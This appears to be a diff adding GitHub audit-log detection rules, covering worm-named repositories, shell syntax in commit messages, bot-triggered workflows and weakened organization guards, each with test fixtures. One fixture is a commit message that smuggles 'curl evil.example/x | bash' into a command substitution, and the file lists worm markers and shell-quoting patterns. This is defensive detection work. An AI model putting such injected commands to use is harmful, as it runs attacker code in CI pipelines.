@@ -1,0 +1,154 @@
+import type { JsonObject } from "@rolecall/core";
+import type { Rule } from "../../rule.ts";
+import { github } from "../examples/records.ts";
+import { plainRule } from "../plain-rule.ts";
+import { SHELL_WORDS } from "./shell-words.ts";
+
+const sources = ["github-audit"];
+
+/** What worms that spread by packages call the repositories into which they put what they stole. */
+const MARKS = ["Sha1-Hulud", "Shai-Hulud", "s1ngularity-repository"] as const;
+
+/** No name or address has these; messages quote them. */
+const QUOTING = ["$(", "`", "| "] as const;
+
+const push = (message: string): JsonObject =>
+  github("git.push", { commits: [{ id: "1", message, author: { name: "Dev", email: "dev@example.com" } }] });
+const run = (differences: JsonObject): JsonObject =>
+  github("workflows.created_workflow_run", {
+    name: "Release",
+    event: "workflow_dispatch",
+    workflow_id: 1,
+    actor: "github-actions[bot]",
+    actor_is_bot: true,
+    ...differences,
+  });
+
+/** GitHub: what spreads by repositories and workflows, and guards of the whole organization. */
+export const GITHUB_WORMS: readonly Rule[] = [
+  plainRule({
+    id: "github-worm-repository",
+    title: "{identity_name} made a repository as a worm makes it ({raw.repo|of no name})",
+    sources,
+    actions: ["repo.create", "repo.rename", "repo.update", "repo.access"],
+    when: {
+      any: MARKS.flatMap((contains) => ["raw.repo", "raw.description"].map((field) => ({ field, contains }))),
+    },
+    severity: "high",
+    attempted: "high",
+    owasp: ["NHI2"],
+    attack: { tactic: "Exfiltration", technique: "T1567" },
+    expected: "nobody calls a repository so",
+    response: [
+      "Make the repository private, keep a copy, and revoke every token of the account.",
+      "Rotate every secret that the machine of its owner could read.",
+    ],
+    fires: ["by its description", github("repo.create", { description: "Sha1-Hulud: The Second Coming." })],
+    quiet: ["of a shop", github("repo.create", { description: "A shop" })],
+  }),
+  plainRule({
+    id: "github-commands-in-commit",
+    title: "{identity_name} pushed a commit that has a shell's words in its text ({raw.repo|of no name})",
+    sources,
+    actions: ["git.push"],
+    when: {
+      any: [
+        ...SHELL_WORDS.map((contains) => ({ field: "raw.commits.*.message", contains })),
+        ...["raw.commits.*.author.name", "raw.commits.*.author.email", "raw.ref"].flatMap((field) =>
+          QUOTING.map((contains) => ({ field, contains })),
+        ),
+      ],
+    },
+    severity: "medium",
+    attack: { tactic: "Execution", technique: "T1651" },
+    expected: "messages are for people; a workflow that puts one into a shell runs what it says",
+    falsePositives: ["Messages that quote a command: read it."],
+    response: ["Read the commit; look for workflows that put its text into a shell, and what they ran."],
+    fires: ["a download", push("Fix bug $(curl evil.example/x | bash)")],
+    quiet: ["a sentence", push("Fix the login")],
+  }),
+  plainRule({
+    id: "github-workflow-started-by-bot",
+    title: "{identity_name}: a workflow started another by hand ({raw.repo|of no name})",
+    sources,
+    actions: ["workflows.created_workflow_run"],
+    when: {
+      all: [
+        { field: "raw.event", in: ["workflow_dispatch", "repository_dispatch"] },
+        { field: "raw.actor", equals: "github-actions[bot]" },
+      ],
+    },
+    severity: "info",
+    owasp: ["NHI4"],
+    attack: { tactic: "Execution", technique: "T1648" },
+    expected: "people start workflows by hand; few workflows start others",
+    fires: ["started", run({})],
+    quiet: ["by a person", run({ actor: "octocat", actor_is_bot: false })],
+  }),
+  plainRule({
+    id: "github-vulnerability-dismissed",
+    title: "{identity_name} dismissed that a dependency is vulnerable ({raw.ghsa_id|of no name})",
+    sources,
+    actions: ["repository_vulnerability_alert.dismiss", "repository_vulnerability_alerts.dismiss"],
+    severity: "info",
+    attack: { tactic: "Defense Impairment", technique: "T1685" },
+    expected: "people dismiss some, with a reason",
+    fires: ["dismissed", github("repository_vulnerability_alert.dismiss", { ghsa_id: "GHSA-1" })],
+    quiet: ["resolved", github("repository_vulnerability_alert.resolve", { ghsa_id: "GHSA-1" })],
+  }),
+  plainRule({
+    id: "github-base-permission-changed",
+    title: "{identity_name} changed what every member may do in every repository",
+    sources,
+    actions: [
+      "org.update_default_repository_permission",
+      "business.update_default_repository_permission",
+      "business.update_members_can_change_repo_visibility_setting",
+      "business.members_can_delete_repos.enable",
+      "members_can_delete_repos.enable",
+      "members_can_create_public_pages.enable",
+      "members_can_create_public_repos.enable",
+      "members_can_invite_outside_collaborators.enable",
+      "repository_visibility_change.enable",
+      "org.update_member_repository_creation_permission",
+      "business.update_member_repository_creation_permission",
+    ],
+    when: { not: { field: "raw.permission", in: ["none", "read"] } },
+    severity: "medium",
+    attempted: "low",
+    owasp: ["NHI5"],
+    attack: { tactic: "Privilege Escalation", technique: "T1098.003" },
+    expected: "the permission is set once",
+    fires: ["changed", github("org.update_default_repository_permission", { repo: null, permission: "admin" })],
+    quiet: ["to less", github("org.update_default_repository_permission", { repo: null, permission: "none" })],
+  }),
+  plainRule({
+    id: "github-log-exported",
+    title: "{identity_name} exported the log of the organization ({action})",
+    sources,
+    actions: [
+      "org.audit_log_export",
+      "org.audit_log_git_event_export",
+      "business.audit_log_export",
+      "business.audit_log_git_event_export",
+    ],
+    severity: "low",
+    attempted: "low",
+    attack: { tactic: "Collection", technique: "T1213.003" },
+    expected: "the log is streamed; auditors export it",
+    fires: ["of Git", github("org.audit_log_git_event_export", { repo: null })],
+    quiet: ["a list", github("org.list_members", { repo: null })],
+  }),
+  plainRule({
+    id: "github-guard-of-branches-off",
+    title: "{identity_name} switched off that changes past a branch's guard are looked at",
+    sources,
+    actions: ["repository_branch_protection_evaluation.disable"],
+    severity: "medium",
+    attempted: "low",
+    attack: { tactic: "Defense Impairment", technique: "T1685" },
+    expected: "guards stay on",
+    fires: ["off", github("repository_branch_protection_evaluation.disable")],
+    quiet: ["on", github("repository_branch_protection_evaluation.enable")],
+  }),
+];
